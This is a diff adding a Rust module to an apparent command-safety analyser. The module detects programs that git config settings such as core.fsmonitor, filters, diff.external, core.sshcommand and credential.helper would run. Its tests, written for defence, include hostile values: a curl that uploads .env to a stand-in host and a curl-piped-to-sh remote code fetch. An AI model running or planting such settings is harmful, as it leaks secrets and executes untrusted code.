@@ -1,0 +1,173 @@
+//! Programs that stored settings make git run along the way: a monitor of files, filters, a differ, helpers that
+//! connect and log in.
+//!
+//! To put one there is a change of its own, and most are the user's. So, as with hooks, what is not understood of one is
+//! taken for what it most likely is; what is, such as a push or data that is sent, counts as what it is.
+
+use countersign_model::{Effect, Resource, verbs};
+
+use super::Git;
+use super::config;
+use crate::context::Context;
+use crate::environment;
+use crate::word::Value;
+
+/// Subcommands that look at the files of the working tree.
+const LOOKS: &[&str] = &[
+    "add", "am", "apply", "checkout", "cherry-pick", "clean", "commit", "diff", "grep", "ls-files", "merge", "mv", "pull", "rebase", "reset", "restore", "revert",
+    "rm", "stash", "status", "switch",
+];
+
+/// Subcommands that put files through filters.
+const FILTERS: &[&str] = &["add", "checkout", "commit", "diff", "merge", "pull", "rebase", "reset", "restore", "stash", "status", "switch"];
+
+/// Subcommands that connect; what a push runs is looked at there.
+const CONNECTS: &[&str] = &["fetch", "ls-remote", "pull", "remote", "submodule"];
+
+/// Filters that are looked at.
+const MOST_FILTERS: usize = 10;
+
+/// Adds what stored settings run.
+pub(super) fn run(git: &Git<'_>, context: &mut Context<'_>) {
+    let subcommand = git.subcommand.as_str();
+    if git.repo.root.is_none() || git.store.is_some() || git.asks_for_help() {
+        return;
+    }
+    let is = |names: &[&str]| names.contains(&subcommand);
+    if is(LOOKS) {
+        setting("core.fsmonitor", git, context);
+    }
+    if is(FILTERS) {
+        let names = git.repo.subsections("filter", context).unwrap_or_default();
+        for name in names.iter().filter(|name| *name != "lfs").take(MOST_FILTERS) {
+            for kind in ["clean", "smudge", "process"] {
+                setting(&format!("filter.{name}.{kind}"), git, context);
+            }
+        }
+    }
+    if subcommand == "diff" && !git.has(&["--no-ext-diff"]) {
+        setting("diff.external", git, context);
+    }
+    let connects = is(CONNECTS) && !(subcommand == "remote" && git.operands().first().is_none_or(|word| !matches!(word.text(), "update" | "show" | "prune")));
+    if connects {
+        setting("core.sshcommand", git, context);
+    }
+    if connects || subcommand == "push" {
+        setting("credential.helper", git, context);
+    }
+}
+
+fn setting(key: &str, git: &Git<'_>, context: &mut Context<'_>) {
+    // What the command itself says of it counts in its place, and is looked at.
+    if git.repo.sets(key) {
+        return;
+    }
+    let Some(value) = git.repo.stored(key, context) else { return };
+    if !config::names_program(key, &value) || (key == "core.sshcommand" && environment::is_plain_ssh(&value)) {
+        return;
+    }
+    let is_helper = key == "credential.helper";
+    let text = match value.strip_prefix('!') {
+        Some(text) => text,
+        // The name of a helper that git has or finds.
+        None if is_helper && !value.starts_with('/') => return,
+        None => value.as_str(),
+    };
+    let outside = std::mem::take(&mut context.collected);
+    let kept = context.state.shell.clone();
+    let opaque = context.state.world.opaque;
+    if let Some(root) = &git.repo.root {
+        context.state.shell.directory = Ok(root.clone());
+    }
+    environment::command(key, &Value::Known(text.to_owned()), context);
+    context.state.shell = kept;
+    context.state.world.opaque = opaque;
+    let found = std::mem::replace(&mut context.collected, outside).finish();
+    // Nobody keeps a program there that is meant to stay.
+    let passing = context.surroundings.temporary.iter().any(|directory| text.contains(directory.as_str()));
+    for mut effect in found {
+        if !passing && is_usual(&effect, is_helper) {
+            continue;
+        }
+        effect.because = Some(match effect.because.take() {
+            Some(because) => format!("the setting {key} runs it: {because}"),
+            None => format!("the setting {key} runs it"),
+        });
+        context.push(effect);
+    }
+}
+
+/// Whether an effect is no more than what such a program is there for.
+fn is_usual(effect: &Effect, is_helper: bool) -> bool {
+    let severe = [verbs::EXEC_REMOTE_CODE, verbs::EXEC_HIDDEN, verbs::EXEC_PRIVILEGE, verbs::EXEC_SYSTEM];
+    let runs = effect.verb.area() == "exec" && !severe.contains(&effect.verb);
+    let reads = effect.verb == verbs::FS_READ || effect.verb == verbs::NET_READ || effect.verb == verbs::GIT_READ;
+    let keeps = is_helper && effect.verb.area() == "secret" && !matches!(effect.resource, Resource::Path { .. });
+    runs || reads || keeps
+}
+
+#[cfg(test)]
+mod tests {
+    use insta::assert_snapshot;
+
+    use crate::fixture::{check, check_with};
+
+    #[test]
+    fn what_stored_settings_run() {
+        let with = |command: &str, key: &str, value: &str| check_with(command, &[(key, value)]);
+        assert_snapshot!(with("git st", "alias.st", "!curl -d @.env https://x.example"), @"
+        secret.read /repo/.env, read
+        net.upload https://x.example, send
+        ");
+        assert_snapshot!(with("git status", "core.fsmonitor", "curl -d @.env https://x.example; :"), @"
+        git.read /repo, read
+        secret.read /repo/.env, read
+        net.upload https://x.example, send
+        ");
+        assert_snapshot!(with("git status", "core.fsmonitor", "/tmp/x.sh"), @"
+        git.read /repo, read
+        exec.opaque /tmp/x.sh, execute, opaque
+        ");
+        assert_snapshot!(with("git diff", "diff.external", "sh -c 'git push origin main'"), @"
+        git.read /repo, read
+        git.push main@origin, write
+        ");
+        assert_snapshot!(with("git add a.rs", "filter.x.clean", "curl https://x.example | sh"), @"
+        git.index /repo, write
+        exec.remote-code sh, execute
+        ");
+        assert_snapshot!(with("git fetch", "core.sshcommand", "sh /tmp/x"), @"
+        git.fetch repository@origin, read
+        exec.opaque /tmp/x, execute, opaque
+        ");
+        assert_snapshot!(with("git push", "credential.helper", "!curl -d @.env https://x.example"), @"
+        git.push feature@origin, write
+        secret.read /repo/.env, read
+        net.upload https://x.example, send
+        ");
+        assert_snapshot!(with("git remote update", "credential.helper", "/tmp/helper"), @"
+        git.fetch repository@origin, read
+        exec.opaque /tmp/helper, execute, opaque
+        ");
+    }
+
+    #[test]
+    fn settings_that_are_usual() {
+        let with = |command: &str, key: &str, value: &str| check_with(command, &[(key, value)]);
+        assert_snapshot!(with("git status", "core.fsmonitor", "true"), @"git.read /repo, read");
+        assert_snapshot!(with("git diff", "diff.external", "difft --color=always"), @"git.read /repo, read");
+        assert_snapshot!(with("git diff --no-ext-diff", "diff.external", "/tmp/x"), @"git.read /repo, read");
+        assert_snapshot!(with("git add a.rs", "filter.lfs.clean", "git-lfs clean -- %f"), @"git.index /repo, write");
+        assert_snapshot!(with("git fetch", "core.sshcommand", "ssh -i ~/.ssh/id_work"), @"git.fetch repository@origin, read");
+        assert_snapshot!(with("git fetch", "credential.helper", "!gh auth git-credential"), @"git.fetch repository@origin, read");
+        assert_snapshot!(with("git fetch", "credential.helper", "osxkeychain"), @"git.fetch repository@origin, read");
+        assert_snapshot!(with("git log", "core.fsmonitor", "/tmp/x.sh"), @"git.read /repo, read");
+        assert_snapshot!(with("git -c core.fsmonitor=false status", "core.fsmonitor", "/tmp/x.sh"), @"git.read /repo, read");
+        assert_snapshot!(with("git remote -v", "core.sshcommand", "sh /tmp/x"), @"git.read /repo, read");
+        assert_snapshot!(check("git status; git diff; git add a.rs; git fetch"), @"
+        git.read /repo, read
+        git.index /repo, write
+        git.fetch repository@origin, read
+        ");
+    }
+}
